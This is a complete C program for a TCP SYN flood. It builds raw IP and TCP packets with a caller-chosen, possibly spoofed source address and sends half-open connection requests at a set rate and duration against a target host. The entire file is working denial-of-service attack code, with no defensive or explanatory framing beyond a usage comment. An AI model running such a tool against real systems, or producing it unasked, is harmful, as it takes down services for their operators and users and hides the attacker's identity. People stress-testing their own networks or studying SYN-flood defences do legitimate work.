/*
 * usage: syn-flood SOURCE TARGET PER-SECOND SECONDS
 * Sends SYNs from every source port to ports from 20000 on, and never answers. Prints how many.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
};

static unsigned short fold(unsigned int sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static unsigned int add(const void *data, int length)
{
	const unsigned short *words = data;
	unsigned int sum = 0;

	for (int i = 0; i < length / 2; i++)
		sum += words[i];
	return sum;
}

static void fill(struct segment *segment, unsigned int number)
{
	segment->tcp.source = htons(1024 + number % 60000);
	segment->tcp.dest = htons(20000 + number / 60000);
	segment->tcp.check = 0;
	segment->tcp.check = fold(add(&segment->ip.saddr, 8) + htons(IPPROTO_TCP) +
				  htons(sizeof(segment->tcp)) +
				  add(&segment->tcp, sizeof(segment->tcp)));
}

int main(int count, char **words)
{
	struct segment segment = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP},
				  .tcp = {.seq = htonl(1), .doff = 5, .syn = 1, .window = 0xffff}};
	struct sockaddr_in target = {.sin_family = AF_INET};
	int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	unsigned int sent = 0;
	long burst, bursts;

	if (count != 5 || out < 0 || inet_pton(AF_INET, words[1], &segment.ip.saddr) != 1 ||
	    inet_pton(AF_INET, words[2], &target.sin_addr) != 1) {
		fprintf(stderr, "usage: syn-flood SOURCE TARGET PER-SECOND SECONDS, with CAP_NET_RAW\n");
		return 1;
	}
	segment.ip.daddr = target.sin_addr.s_addr;
	segment.ip.tot_len = htons(sizeof(segment));
	/* A hundred bursts a second. */
	burst = atol(words[3]) / 100;
	bursts = atol(words[4]) * 100;
	for (long i = 0; i < bursts; i++) {
		for (long j = 0; j < burst; j++) {
			fill(&segment, sent);
			if (sendto(out, &segment, sizeof(segment), 0, (struct sockaddr *)&target,
				   sizeof(target)) == sizeof(segment))
				sent++;
		}
		nanosleep(&(struct timespec){.tv_nsec = 10000000}, 0);
	}
	printf("%u\n", sent);
	return 0;
}
